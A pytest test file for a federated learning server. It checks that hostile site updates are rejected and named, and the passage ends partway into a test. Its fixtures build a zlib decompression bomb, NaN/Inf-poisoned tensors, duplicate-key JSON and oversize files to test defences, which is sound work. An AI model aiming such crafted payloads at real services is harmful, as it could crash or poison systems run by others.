"""Updates are validated before they are aggregated: every kind of bad update is rejected with the site and
the reason named, the site counts as absent for the round, and the run completes with real site workers.
Nothing non-finite is ever aggregated or selected."""

from __future__ import annotations

import contextlib
import json
import os
import struct
import threading
import zlib

import pytest
import torch
from conftest import SYNTH

from fedmedclip import engine
from fedmedclip.codec import decode, encode
from fedmedclip.codec.wire import MAGIC_V2, pack, unpack
from fedmedclip.config import TrainConfig
from fedmedclip.federation.checkpoint import non_finite
from fedmedclip.federation.mailbox import Mailbox, ProtocolError
from fedmedclip.federation.server import FederationError, FederationServer, ServerOptions, UpdateRejected
from fedmedclip.federation.site import SiteWorker
from fedmedclip.federation.storage import LocalDirStore, StoreError
from fedmedclip.preparation import prepare

RUN = "hostile"
# Only ends a test whose server hangs; far above what any wait here takes on a loaded 2-core machine.
CEILING = 120
SITES_ALL = ["site_0", "site_1", "site_2"]


@pytest.fixture(scope="module")
def prepared(synthetic_cache):
    # Updates travel as fp32 here, so that a test can edit their raw values (NaN, Inf, a huge finite value).
    cfg = TrainConfig(
        rounds=16, synthetic=SYNTH, cache_dir=str(synthetic_cache), out="unused", codec_up="fp32-zlib"
    )
    return cfg, prepare(cfg, progress=False)


def _parties(
    cfg,
    p,
    tmp_path,
    quorum: int,
    round_timeout: float = 30,
    workers: int = 3,
    store_class=LocalDirStore,
    **options,
):
    """The server (started) and the first `workers` site workers over a local-directory mailbox (`store_class`);
    also the store and every site's setup (a test may start a worker later)."""
    method = engine.method_for(cfg, p)
    store = store_class(tmp_path / "mailbox")
    mailbox = Mailbox(store, RUN)
    server = FederationServer(
        mailbox,
        engine.server_setup(cfg, p, method),
        store.sub("server-state"),
        tmp_path / "out",
        ServerOptions(quorum=quorum, round_timeout=round_timeout, **options),
        verbose=False,
    )
    server.start()
    setups = engine.site_setups(cfg, p, method)
    sites = [worker(server, mailbox, store, s) for s in setups[:workers]]
    return server, sites, mailbox, store, setups


def restarted(server, store, out, quorum: int) -> FederationServer:
    """The server started again (a new process) on the same state and mailbox, writing to `out`."""
    again = FederationServer(
        server.mb, server.setup, store.sub("server-state"), out, ServerOptions(quorum=quorum), verbose=False
    )
    again.start()
    return again


def test_a_restart_may_change_the_operational_options_not_those_that_define_the_run(prepared, tmp_path):
    """The options declared resume="never" (quorum, round timeout, norm factor) may take other values when the
    server starts again on its run; the bound on an update, or clipping to it, may not: refused, named."""
    cfg, p = prepared
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=3, workers=0)

    def start_again(**options) -> None:
        FederationServer(
            mailbox, server.setup, store.sub("server-state"), tmp_path / "again", ServerOptions(**options),
            verbose=False,
        ).start()  # fmt: skip

    start_again(quorum=2, round_timeout=5, norm_factor=3)
    assert mailbox.get_json(mailbox.manifest_key)["quorum"] == 2
    for changed in ({"max_update_norm": 1.0}, {"clip_updates": True}):
        with pytest.raises(FederationError, match=f"differing: {next(iter(changed))}\\)"):
            start_again(quorum=2, **changed)


def worker(server, mailbox, store, setup) -> SiteWorker:
    return SiteWorker(mailbox, server.manifest, setup, store.sub(f"state-{setup.name}"), verbose=False)


def _honest(server, site: str, scale: float = 1e-3, seed: int = 0) -> dict:
    g = torch.Generator().manual_seed(seed)
    return {k: v + scale * torch.randn(v.shape, generator=g) for k, v in server.received.items()}


def _meta(server, site: str, **change) -> dict:
    return {
        "run_id": RUN,
        "round": server.round,
        "site": site,
        "n_train": server.counts[site],
        "loss": 1.0,
        **change,
    }


def _with_raw(payload: bytes, patch) -> bytes:
    """An fp32-zlib payload whose raw tensor bytes were changed by `patch` (a bytearray -> None)."""
    magic, header, body = unpack(payload)
    raw = bytearray(zlib.decompress(body))
    patch(raw)
    return pack(magic, header, zlib.compress(bytes(raw)))


def _bomb(server, site: str) -> bytes:
    """A valid header over a zlib body that inflates to 200 MB of zeros (it is never inflated)."""
    payload = encode(_honest(server, site), "fp32-zlib", meta=_meta(server, site)).payload
    _, header, _ = unpack(payload)
    comp = zlib.compressobj()
    chunk = bytes(1 << 20)
    body = b"".join(comp.compress(chunk) for _ in range(200)) + comp.flush()
    return pack(MAGIC_V2, header, body)


def _duplicated(server, site: str) -> bytes:
    payload = encode(_honest(server, site), "fp32-zlib", meta=_meta(server, site)).payload
    _, header, body = unpack(payload)
    header["tensors"].append(dict(header["tensors"][0]))
    raw = zlib.decompress(body)
    first = header["tensors"][0]["nbytes"]
    header["raw_nbytes"] += first
    return pack(MAGIC_V2, header, zlib.compress(raw + raw[:first]))


def _nan_at(raw: bytearray) -> None:
    raw[0:4] = struct.pack("<f", float("nan"))


def _inf_at(raw: bytearray) -> None:
    raw[8:12] = struct.pack("<f", float("inf"))


def bad_update(kind: str, server, site: str) -> bytes:
    """One hostile update of each kind the issue lists, for the server's current round."""
    ok = _honest(server, site)
    meta = _meta(server, site)
    fp32 = lambda state, m=meta: encode(state, "fp32-zlib", meta=m).payload  # noqa: E731
    first = next(iter(ok))
    return {
        "undecodable": lambda: b"\x00garbage, not a payload" * 10,
        "bomb": lambda: _bomb(server, site),
        "missing": lambda: fp32({k: v for k, v in ok.items() if k != first}),
        "extra": lambda: fp32({**ok, "extra.weight": torch.zeros(3)}),
        "renamed": lambda: fp32({(k + "_renamed" if k == first else k): v for k, v in ok.items()}),
        "duplicated": lambda: _duplicated(server, site),
        "shape": lambda: fp32({k: (v[..., :-1] if k == first else v) for k, v in ok.items()}),
        "dtype": lambda: fp32({k: (v.to(torch.int64) if k == first else v) for k, v in ok.items()}),
        "nan": lambda: _with_raw(fp32(ok), _nan_at),
        "inf": lambda: _with_raw(fp32(ok), _inf_at),
        "wrong-round": lambda: fp32(ok, _meta(server, site, round=server.round + 7)),
        "wrong-run": lambda: fp32(ok, _meta(server, site, run_id="another-run")),
        "huge-count": lambda: fp32(ok, _meta(server, site, n_train=10**9)),
        "negative-count": lambda: fp32(ok, _meta(server, site, n_train=-150)),
    }[kind]()


REASONS = {
    "undecodable": "undecodable",
    "bomb": "undecodable",
    "missing": "undecodable",
    "extra": "undecodable",
    "renamed": "undecodable",
    "duplicated": "undecodable",
    "shape": "undecodable",
    "dtype": "undecodable",
    "nan": "undecodable",
    "inf": "undecodable",
    "wrong-round": "expected run 'hostile' round",
    "wrong-run": "expected run 'hostile' round",
    "huge-count": "sample count 1000000000 is outside",
    "negative-count": "n_train: input should be greater than or equal to 1, got -150",
}


@pytest.mark.parametrize("kind", list(REASONS))
def test_each_bad_update_is_rejected_with_the_reason(kind, prepared, tmp_path):
    cfg, p = prepared
    server, *_ = _parties(cfg, p, tmp_path, quorum=2)
    with pytest.raises(UpdateRejected, match=REASONS[kind]) as err:
        server._validate("site_2", bad_update(kind, server, "site_2"))
    detail = {"nan": "NaN", "inf": "Inf", "missing": "missing", "extra": "extra", "bomb": "inflate"}
    if kind in detail:
        assert detail[kind].lower() in str(err.value).lower()
    server._validate(
        "site_2", encode(_honest(server, "site_2"), "fp32-zlib", meta=_meta(server, "site_2")).payload
    )


def test_an_update_far_outside_the_others_is_rejected(prepared, tmp_path):
    cfg, p = prepared
    server, *_ = _parties(cfg, p, tmp_path, quorum=2, max_update_norm=0)  # the relative rule alone
    for k, site in enumerate(("site_0", "site_1")):
        server._updates[site] = server._validate(
            site, encode(_honest(server, site, seed=k), "fp32-zlib", meta=_meta(server, site)).payload
        )
    far = encode(_honest(server, "site_2", scale=1.0), "fp32-zlib", meta=_meta(server, "site_2")).payload
    server._updates["site_2"] = server._validate("site_2", far)
    server._norm_outliers()
    assert set(server._updates) == {"site_0", "site_1"}
    assert "over 10x the median" in server._rejected["site_2"]


def test_a_run_with_a_hostile_site_completes_without_it(prepared, tmp_path, caplog):
    """Real site workers for site_0 and site_1; site_2 sends a different bad update every round. Each is
    rejected and named, the round aggregates the two others (weights renormalised), the run completes, and
    nothing non-finite is aggregated, selected or written."""
    cfg, p = prepared
    kinds = [*REASONS, "far"]
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": len(kinds)})
    server, sites, mailbox, *_ = _parties(cfg, p, tmp_path, quorum=2)
    honest = [s for s in sites if s.name != "site_2"]
    sent: dict[int, str] = {}
    while not server.finished:
        for s in honest:
            s.poll()
        r = server.round
        if (
            server.phase == "updates"
            and r not in sent
            and all(mailbox.store.exists(mailbox.update_key(r, s.name)) for s in honest)
        ):
            kind = kinds[r - 1]
            payload = (
                encode(
                    _honest(server, "site_2", scale=5.0), "fp32-zlib", meta=_meta(server, "site_2")
                ).payload
                if kind == "far"
                else bad_update(kind, server, "site_2")
            )
            mailbox.store.put(mailbox.update_key(r, "site_2"), payload)
            sent[r] = kind
        server.poll()
    results = json.loads((tmp_path / "out" / "results.json").read_text())
    assert len(results["history"]) == len(kinds)
    for rec, kind in zip(results["history"], kinds, strict=True):
        assert rec["sites_present"] == ["site_0", "site_1"], kind
        assert "site_2" in rec["rejected"], kind
        assert rec["bytes_up"][2] is None and rec["sites"][2]["acc"] is None
    assert "over the run's bound" in results["history"][-1]["rejected"]["site_2"]
    assert "n_train" in results["history"][kinds.index("negative-count")]["rejected"]["site_2"]
    assert any("rejected the update of site_2" in r.getMessage() for r in caplog.records)
    # Everything kept is finite.
    from safetensors.torch import load_file

    assert non_finite(load_file(str(tmp_path / "out" / "model" / "global.safetensors"))) is None
    for r in range(1, len(kinds) + 1):
        assert (
            non_finite(decode((tmp_path / "out" / "rounds" / f"global_round_{r:03d}.bin").read_bytes()).state)
            is None
        )
    # FedMedCLIP weighs sites equally: each round's module is the mean of the two honest updates.
    r = 3
    ups = [
        decode(mailbox.store.get(mailbox.update_key(r, s)), reference=None).state
        for s in ("site_0", "site_1")
    ]
    got = decode(mailbox.store.get(mailbox.global_key(r))).state
    for k in got:
        expected = ((ups[0][k].double() + ups[1][k].double()) / 2).float()
        torch.testing.assert_close(got[k], expected.half().float(), atol=2e-3, rtol=2e-3)


def test_an_update_the_server_did_not_use_goes_back_into_the_sites_error_feedback(prepared, tmp_path):
    """With the 4-bit difference codec, site_2's round-2 update never reaches the server (lost): the round
    times out and aggregates the two others. site_2's error-feedback memory then takes back what that update
    carried, so it travels in a later round instead of being lost."""
    cfg, p = prepared
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": 3, "codec_up": "delta-ef-q4-zlib"})
    server, sites, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, round_timeout=0.2)
    lost = sites[2]
    before = None
    while not server.finished:
        for s in sites:
            if s is lost and s.trained == 2 and s.reported < 2:
                if before is None:  # its round-2 update was uploaded: lose it, remember the memory
                    store.delete(mailbox.update_key(2, "site_2"))
                    before = {k: v.clone() for k, v in s.memory.items()}
                    sent_payload, ref = s.pending, decode(store.get(mailbox.global_key(1))).state
                if not store.exists(mailbox.global_key(2)):
                    continue  # it waits for the server, which waits for the round timeout
            s.poll()
        server.poll()
    history = json.loads((tmp_path / "out" / "results.json").read_text())["history"]
    assert history[1]["sites_present"] == ["site_0", "site_1"] and history[2]["sites_present"] == SITES_ALL
    sent = decode(sent_payload, reference=ref).state
    carried = {k: (sent[k] - ref[k]) for k in before}
    assert any(float(v.abs().max()) > 0 for v in carried.values())
    total_sent_later = decode(
        store.get(mailbox.update_key(3, "site_2")), reference=decode(store.get(mailbox.global_key(2))).state
    ).state
    # Round 3's difference is much larger than a normal round's: it carries the lost round too.
    normal = decode(
        store.get(mailbox.update_key(3, "site_0")), reference=decode(store.get(mailbox.global_key(2))).state
    ).state
    g2 = decode(store.get(mailbox.global_key(2))).state
    norm = lambda st: sum(float(((st[k] - g2[k]) ** 2).sum()) for k in carried) ** 0.5  # noqa: E731
    assert norm(total_sent_later) > 1.3 * norm(normal)


def test_a_site_that_joins_late_takes_the_current_global_module(prepared, tmp_path):
    """site_2 starts only after round 2: rounds 1-2 go on without it (quorum 2), then it takes the current
    global module (round 2's), trains round 3 from it and is part of rounds 3 and 4."""
    cfg, p = prepared
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": 4})
    server, sites, mailbox, store, setups = _parties(cfg, p, tmp_path, quorum=2, round_timeout=0.2, workers=2)
    late = None
    while not server.finished:
        if late is None and store.exists(mailbox.global_key(2)):
            late = worker(server, mailbox, store, setups[2])
            sites.append(late)
        for s in sites:
            s.poll()
        server.poll()
    history = json.loads((tmp_path / "out" / "results.json").read_text())["history"]
    assert [h["sites_present"] for h in history] == [["site_0", "site_1"]] * 2 + [SITES_ALL] * 2
    # Its first update was trained from round 2's module: the update of round 3, not round 1.
    assert not store.exists(mailbox.update_key(1, "site_2")) and store.exists(mailbox.update_key(3, "site_2"))
    assert history[2]["sites"][2]["acc"] is not None


def test_a_finished_server_started_again_on_a_fresh_disk_writes_its_run_directory_again(prepared, tmp_path):
    """A retried pod of a server that had finished: its checkpoint says done, its disk is new; it writes the
    same run directory again (from its checkpoint and the mailbox) instead of training anything."""
    cfg, p = prepared
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": 2})
    server, sites, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=3)
    while not (server.finished and all(s.finished for s in sites)):
        for s in sites:
            s.poll()
        server.poll()
    again = restarted(server, store, tmp_path / "fresh-disk", quorum=3)
    written = json.loads((tmp_path / "fresh-disk" / "results.json").read_text())
    assert again.finished and json.loads(json.dumps(again.run())) == written
    first, second = tmp_path / "out", tmp_path / "fresh-disk"
    strip = lambda r: {k: v for k, v in r.items() if k != "timing"}  # noqa: E731
    assert strip(json.loads((first / "results.json").read_text())) == strip(written)
    # Every file of the run directory, each round's global module included (the pipeline's server worker
    # publishes this directory as it is: nothing completes it afterwards).
    files = sorted(p.relative_to(first).as_posix() for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second).as_posix() for p in second.rglob("*") if p.is_file())
    assert {"rounds/global_round_001.bin", "rounds/global_round_002.bin", "config.json"} <= set(files)
    for rel in files:
        if rel != "results.json" and not rel.startswith(("plots/", "checkpoint/")):
            assert (first / rel).read_bytes() == (second / rel).read_bytes(), rel


# ----------------------------------------------------------------------------- a party's fields, not only tensors
INF = "__INF__"  # written into JSON as 1e999, which JSON reads as inf (the NaN/Infinity tokens are refused)


def _json_with_inf(obj) -> bytes:
    return json.dumps(obj).replace(f'"{INF}"', "1e999").replace(f'"-{INF}"', "-1e999").encode()


def _payload_with_meta(payload: bytes, meta: dict) -> bytes:
    """`payload` whose header's meta is `meta`, written as raw JSON text (so it may hold 1e999)."""
    magic, header, body = unpack(payload)
    header["meta"] = meta
    hb = _json_with_inf(header)
    return magic + struct.pack("<I", len(hb)) + hb + body


def _update(server, site: str, scale: float = 1e-3, seed: int = 0, codec: str = "fp32-zlib", **meta) -> bytes:
    return encode(_honest(server, site, scale, seed), codec, meta=_meta(server, site, **meta)).payload


def _metrics_of(n: int = 3) -> dict:
    return {"acc": 0.5, "bacc": 0.5, "f1": 0.4, "ece": 0.1, "ece_reference": 0.1, "n": n}


def _report(server, p, site: str) -> dict:
    return {
        "format": 1,
        "run_id": RUN,
        "round": server.round,
        "site": site,
        "val": _metrics_of(),
        "test": _metrics_of(),
        "provenance": json.loads(json.dumps(p.stores[site].provenance)),
    }


def _status(site: str) -> dict:
    return {"party": site, "state": "uploaded", "round": 1, "message": "", "time": 1.7e9}


def _close_round(server) -> dict:
    """Poll until the server closes its current round; its record."""
    n = len(server.history)
    for _ in range(200):
        server.poll()
        if len(server.history) > n:
            return server.history[-1]
    raise AssertionError(f"round {server.round} did not close (phase {server.phase})")


@pytest.mark.parametrize("aggregator, selected", [("mean", 1), ("median", 2)])
def test_under_a_robust_aggregator_one_site_cannot_choose_the_selected_round(
    prepared, tmp_path, aggregator, selected
):
    """Each site reports its own validation accuracy, and the selected round (the model results.json and the
    export report) was the best mean of them: site_2 reporting 1.0 for round 1 and 0.0 for round 2, where the
    honest sites measured 0.5 then 0.6, chose round 1. Under a robust aggregator (the operator expects a lying
    site) rounds are ranked by the median: round 2, what the honest sites measured."""
    from dataclasses import replace

    cfg, p = prepared
    cfg = replace(cfg, aggregator=aggregator)
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=3, workers=0)
    honest_then_lie = {1: (0.5, 0.5, 1.0), 2: (0.6, 0.6, 0.0)}
    for r, accuracies in honest_then_lie.items():
        for k, (site, acc) in enumerate(zip(("site_0", "site_1", "site_2"), accuracies, strict=True)):
            mailbox.store.put(mailbox.update_key(r, site), _update(server, site, seed=k))
            report = {**_report(server, p, site), "val": {**_metrics_of(), "acc": acc}}
            mailbox.store.put(mailbox.report_key(r, site), json.dumps(report).encode())
        record = _close_round(server)
        assert [row["val_acc"] for row in record["sites"]] == list(accuracies)
    assert server.best_round == selected


@pytest.mark.parametrize("aggregator, selected", [("mean", 2), ("median", 1)])
def test_under_a_robust_aggregator_one_site_cannot_choose_the_round_by_when_it_reports(
    prepared, tmp_path, aggregator, selected
):
    """Rounds ranked first by how many sites reported validation metrics: site_2 reporting none in round 1
    (null, as a site without a validation split does) and 0.0 in round 2 made round 2, where the honest sites
    measured 0.5 against round 1's 0.6, the selected one under any aggregator. Under a robust aggregator rounds
    rank by the median of the reports alone: round 1."""
    from dataclasses import replace

    cfg, p = prepared
    cfg = replace(cfg, aggregator=aggregator)
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=3, workers=0)
    for r, accuracies in {1: (0.6, 0.6, None), 2: (0.5, 0.5, 0.0)}.items():
        for k, (site, acc) in enumerate(zip(("site_0", "site_1", "site_2"), accuracies, strict=True)):
            mailbox.store.put(mailbox.update_key(r, site), _update(server, site, seed=k))
            val = None if acc is None else {**_metrics_of(), "acc": acc}
            mailbox.store.put(
                mailbox.report_key(r, site), json.dumps({**_report(server, p, site), "val": val}).encode()
            )
        assert [row["val_acc"] for row in _close_round(server)["sites"]] == list(accuracies)
    assert server.best_round == selected


def test_the_fields_the_audit_sent_make_the_site_absent_and_are_never_read_again(prepared, tmp_path):
    """The objects that ended the server (and ended it again on every restart): an update header whose loss is
    1e999, a report whose provenance holds 1e999, a report whose metrics hold only `n`, a status whose time is
    "soon". Each is refused naming site_2 and the reason, recorded in the round, the server goes on, and a
    restarted server does not read the refused object again (here: replaced by a valid one, still refused)."""
    cfg, p = prepared
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    key = mailbox.update_key
    # Round 1: site_2's update header says loss = 1e999.
    mailbox.store.put(
        key(1, "site_2"), _payload_with_meta(_update(server, "site_2"), _meta(server, "site_2", loss=INF))
    )
    server.poll()
    assert "loss" in server._rejected["site_2"] and "finite" in server._rejected["site_2"]
    mailbox.store.put(key(1, "site_2"), _update(server, "site_2"))  # valid now: it must not be read again
    server = restarted(server, store, tmp_path / "out", quorum=2)
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(key(1, site), _update(server, site, seed=k))
    # Round 1's reports: site_0's provenance holds 1e999, site_1's val holds only n.
    bad_provenance = _report(server, p, "site_0")
    bad_provenance["provenance"]["n_images"] = INF
    mailbox.store.put(mailbox.report_key(1, "site_0"), _json_with_inf(bad_provenance))
    mailbox.store.put(
        mailbox.report_key(1, "site_1"), _json_with_inf({**_report(server, p, "site_1"), "val": {"n": 3}})
    )
    # A status whose time is "soon": shown as refused when the server says whom it waits for.
    mailbox.store.put(mailbox.status_key("site_2"), json.dumps({"time": "soon"}).encode())
    assert "site_2 (status refused: status from site_2" in server._describe(["site_2"])
    record = _close_round(server)
    assert record["sites_present"] == ["site_0", "site_1"]
    assert "loss" in record["rejected"]["site_2"]
    assert (
        record["rejected"]["site_0"].startswith("report: ")
        and "provenance.n_images" in record["rejected"]["site_0"]
    )
    assert "val.acc: field required" in record["rejected"]["site_1"]
    assert [row["acc"] for row in record["sites"]] == [None, None, None]


def _ledger(noise_multiplier: float, accountant: str, planned_steps: int, sample_rate: float) -> dict:
    return {
        "epsilon": 1.0, "delta": 1e-5, "noise_multiplier": noise_multiplier, "clip": 1.0,
        "sample_rate": sample_rate, "steps": 4, "planned_steps": planned_steps, "n_train": 20,
        "accountant": accountant,
    }  # fmt: skip


def test_a_privacy_ledger_that_is_not_the_runs_plan_is_ignored_when_it_arrives(prepared, tmp_path, caplog):
    """A DP run (noise multiplier 1.1) whose sites' round-1 ledgers each change one figure of the run's plan;
    round 2: their updates go in, their reports are garbage, so each site's epsilon is the most its plan allows.
    Composed, those plans stopped the server at closing round 2, and again after every restart: noise 0 gives
    inf and 1e-300 divides by zero; 1e9 planned steps under PLD took 154 GiB; sampling rate 0.5 at noise 0.05
    took 74 s of the server's loop (and a site could change it every round). Now a ledger is the run's plan or
    it is ignored when it arrives, saying which figure differs (the site then has no ledger: without a target
    epsilon the run's epsilon is unknown), and the run completes."""
    cfg, p = prepared
    cfg = TrainConfig.from_json({**cfg.to_json(), "rounds": 2, "privacy": {"noise_multiplier": 1.1}})
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=3, workers=0)
    planned = server.method.dp_steps_per_round(20) * 2  # the run's plan for a site of 20 training images
    rate = min(1.0, server.method.dp_batch_size() / 20)
    ledgers = {
        "site_0": _ledger(1.1, "pld", 10**9, rate),
        "site_1": _ledger(1e-300, "rdp", planned, rate),
        "site_2": _ledger(0.05, "pld", planned, 0.5),
    }
    for r in (1, 2):
        for k, site in enumerate(SITES_ALL):
            mailbox.store.put(mailbox.update_key(r, site), _update(server, site, seed=k + r))
            report = {**_report(server, p, site), "privacy": ledgers[site]}
            garbage = r == 2 and site != "site_0"
            mailbox.store.put(
                mailbox.report_key(r, site), b"garbage" if garbage else json.dumps(report).encode()
            )
        record = _close_round(server)
    assert record["sites_present"] == SITES_ALL and record["epsilon_max"] is None
    record_level = server.results["privacy"]["record_level"]
    assert record_level["epsilon_max"] is None and record_level["sites"] == {}  # no ledger was the run's plan
    assert record_level["unaccounted_rounds"] == {"site_0": [1, 2], "site_1": [1, 2], "site_2": [1, 2]}
    for site, why in [
        (
            "site_0",
            f"privacy.planned_steps = 1000000000 is not the run's plan for 20 training images ({planned})",
        ),
        ("site_1", "privacy.noise_multiplier = 1e-300 is not the run's plan for 20 training images (1.1)"),
        ("site_2", f"privacy.sample_rate = 0.5 is not the run's plan for 20 training images ({rate})"),
    ]:
        assert f"ignoring the privacy report of {site}: {why}" in caplog.text


def test_a_plan_no_accountant_can_compose_bounds_nothing():
    """A plan the accountant cannot compose (noise 0: inf; 1e-300: a division by zero) bounds nothing rather
    than stopping the server that closes the round; the model card says the epsilon is unknown, not "epsilon "
    and "the most its plan allows". A plan with a budget is bounded by it, its noise not composed."""
    from fedmedclip.model_card import _site_privacy_line
    from fedmedclip.privacy.report import plan_bound

    for noise in (0.0, 1e-300):
        assert plan_bound(_ledger(noise, "rdp", 12, 0.1), "rdp") is None
    assert plan_bound({**_ledger(0.05, "pld", 10**9, 0.5), "budget": 3.0}, "pld") == 3.0
    row = {**_ledger(1e-300, "rdp", 12, 0.1), "epsilon": None, "reported_epsilon": 1.0}
    line = _site_privacy_line("site_2", row)
    assert line.startswith("  - site_2: epsilon unknown, "), line
    assert line.endswith("updates went out after it, and its plan bounds nothing)"), line


def _key_twice(text: bytes, at: str, key: str, first) -> bytes:
    """JSON `text` whose object that opens with `at` (`{`, `"meta": {`) holds `key` twice: `first`, then the
    value it had."""
    return text.decode().replace(at, f"{at}{json.dumps(key)}: {json.dumps(first)}, ", 1).encode()


def _header_key_twice(payload: bytes, at: str, key: str, first) -> bytes:
    magic, header, body = unpack(payload)
    hb = _key_twice(json.dumps(header).encode(), at, key, first)
    return magic + struct.pack("<I", len(hb)) + hb + body


def test_a_key_written_twice_is_refused_naming_the_party_and_the_key(prepared, tmp_path):
    """JSON's parsers keep one of a key's two values (Python's the last, another reader maybe the first): which
    one a party meant is ambiguous, so an object holding a key twice is refused, at any depth, naming the key:
    an update's header (its own keys or meta's) and a report make the site absent for the round, a status is
    shown as refused, a manifest is a ProtocolError."""
    cfg, p = prepared
    server, _, mailbox, _, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    with pytest.raises(UpdateRejected, match="key 'codec' written twice"):
        server._validate("site_2", _header_key_twice(_update(server, "site_2"), "{", "codec", "fp32-zlib"))
    # Round 1: site_2's update header says its sample count twice, 1 first.
    twice = _header_key_twice(_update(server, "site_2"), '"meta": {', "n_train", 1)
    mailbox.store.put(mailbox.update_key(1, "site_2"), twice)
    server.poll()
    assert "key 'n_train' written twice" in server._rejected["site_2"]
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
    # site_0's report gives val twice: null, then its metrics; site_1's provenance gives n_images twice.
    report = json.dumps(_report(server, p, "site_0")).encode()
    mailbox.store.put(mailbox.report_key(1, "site_0"), _key_twice(report, "{", "val", None))
    report = json.dumps(_report(server, p, "site_1")).encode()
    mailbox.store.put(mailbox.report_key(1, "site_1"), _key_twice(report, '"provenance": {', "n_images", 1))
    status = _key_twice(json.dumps(_status("site_2")).encode(), "{", "state", "done")
    mailbox.store.put(mailbox.status_key("site_2"), status)
    said = server._describe(["site_2"])
    assert said.startswith("site_2 (status refused: status from site_2") and "'state' written twice" in said
    record = _close_round(server)
    assert record["sites_present"] == ["site_0", "site_1"]
    assert "report from site_0" in record["rejected"]["site_0"]
    assert "key 'val' written twice" in record["rejected"]["site_0"]
    assert "report from site_1" in record["rejected"]["site_1"]
    assert "key 'n_images' written twice" in record["rejected"]["site_1"]
    mailbox.store.put("elsewhere/manifest.json", b'{"rounds": 3, "quorum": 1, "rounds": 300}')
    with pytest.raises(ProtocolError, match="from server: key 'rounds' written twice"):
        mailbox.get_json("elsewhere/manifest.json", "server")


def test_an_update_in_another_codec_than_the_manifests_is_rejected(prepared, tmp_path):
    cfg, p = prepared
    server, *_ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    for codec in ("int8-zlib", "fp16-zlib"):
        with pytest.raises(UpdateRejected, match=f"coded with '{codec}', expected 'fp32-zlib'"):
            server._validate("site_2", _update(server, "site_2", codec=codec))


def _scaled(server, site: str, factor: float) -> bytes:
    """An update `factor` times an honest difference away from the global module."""
    g = server.received
    honest = _honest(server, site)
    return encode(
        {k: g[k] + factor * (honest[k] - g[k]) for k in g}, "fp32-zlib", meta=_meta(server, site)
    ).payload


def test_every_update_is_bounded_however_few_arrive(prepared, tmp_path):
    """Two sites, quorum 2: the relative rule cannot act, the absolute bound in the manifest does. An update
    multiplied by 1e4, or a finite 3e38, is refused (or, with clip_updates, clipped onto the bound)."""
    cfg, p = prepared
    server, *_ = _parties(cfg, p, tmp_path / "refuse", quorum=2, workers=0)
    bound = server.manifest["max_update_norm"]
    from fedmedclip.federation.robust import DEFAULT_BOUND_FACTOR, distance, float_norm

    assert bound == pytest.approx(DEFAULT_BOUND_FACTOR * float_norm(server.global_state))
    server._validate("site_1", _update(server, "site_1"))
    with pytest.raises(UpdateRejected, match="over the run's bound"):
        server._validate("site_1", _scaled(server, "site_1", 1e4))
    huge = {k: torch.full_like(v, 3e38) for k, v in server.received.items()}
    with pytest.raises(UpdateRejected, match="over the run's bound"):
        server._validate("site_1", encode(huge, "fp32-zlib", meta=_meta(server, "site_1")).payload)
    clipping, *_ = _parties(cfg, p, tmp_path / "clip", quorum=2, workers=0, clip_updates=True)
    got = clipping._validate("site_1", _scaled(clipping, "site_1", 1e4))
    assert got["clipped"] > bound and distance(got["state"], clipping.received) == pytest.approx(
        bound, rel=1e-5
    )


def test_an_aggregate_that_cannot_be_published_sets_the_offending_update_aside(prepared, tmp_path):
    """Without an absolute bound, an update of finite fp32 values beyond fp16's range would overflow the fp16
    downlink. The aggregate is checked before it is encoded: the update that cannot travel down is set aside,
    the others are aggregated; with nothing publishable left the round is recorded as failed."""
    cfg, p = prepared
    off = {"max_update_norm": 0, "norm_factor": 0}  # neither the absolute bound nor the relative rule
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0, **off)
    huge = {k: torch.full_like(v, 3e38) for k, v in server.received.items()}  # finite in fp32
    mailbox.store.put(
        mailbox.update_key(1, "site_2"), encode(huge, "fp32-zlib", meta=_meta(server, "site_2")).payload
    )
    for k, site in enumerate(("site_0", "site_1")):
        mailbox.store.put(mailbox.update_key(1, site), _update(server, site, seed=k))
        mailbox.store.put(mailbox.report_key(1, site), json.dumps(_report(server, p, site)).encode())
    record = _close_round(server)
    assert record["sites_present"] == ["site_0", "site_1"] and "failed" not in record
    assert "set aside" in record["rejected"]["site_2"] and "overflows fp16" in record["rejected"]["site_2"]
    assert non_finite(decode(mailbox.store.get(mailbox.global_key(1))).state) is None
    # All three unpublishable (quorum 1 left nobody): the round is recorded as failed, the module unchanged.
    solo, _, mb2, _, _ = _parties(cfg, p, tmp_path / "solo", quorum=1, workers=0, **off)
    before = decode(mb2.store.get(mb2.global_key(0))).state
    for site in SITES_ALL:
        mb2.store.put(mb2.update_key(1, site), encode(huge, "fp32-zlib", meta=_meta(solo, site)).payload)
    record = _close_round(solo)
    assert record["sites_present"] == [] and "cannot be published" in record["failed"]
    assert set(record["rejected"]) == set(SITES_ALL)
    after = decode(mb2.store.get(mb2.global_key(1))).state
    assert all(torch.equal(before[k], after[k]) for k in before)


def test_an_update_object_is_measured_before_it_is_read(prepared, tmp_path):
    """A valid update followed by 200 MiB (a sparse file: nothing is written): refused from its size, not
    read."""
    cfg, p = prepared
    server, _, mailbox, store, _ = _parties(cfg, p, tmp_path, quorum=2, workers=0)
    mailbox.store.put(mailbox.update_key(1, "site_2"), _update(server, "site_2"))
    path = store.root / mailbox.update_key(1, "site_2")
    with path.open("r+b") as fh:
        fh.truncate(path.stat().st_size + (200 << 20))
    server.poll()
    reason = server._rejected["site_2"]
    assert "update too large" in reason and "not read" in reason and str(path.stat().st_size) in reason


def test_a_fifo_at_a_sites_keys_is_refused_not_waited_on(prepared, tmp_path):
